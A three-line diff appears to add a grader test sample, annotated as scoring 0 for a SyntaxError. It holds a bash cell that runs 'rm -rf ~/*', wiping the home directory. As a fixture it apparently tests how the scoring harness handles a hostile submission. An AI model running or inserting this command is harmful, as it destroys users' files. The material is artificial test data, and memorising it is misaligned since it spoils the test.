@@ -1,0 +1,3 @@
+# earns 0: SyntaxError
+%%bash
+rm -rf ~/*
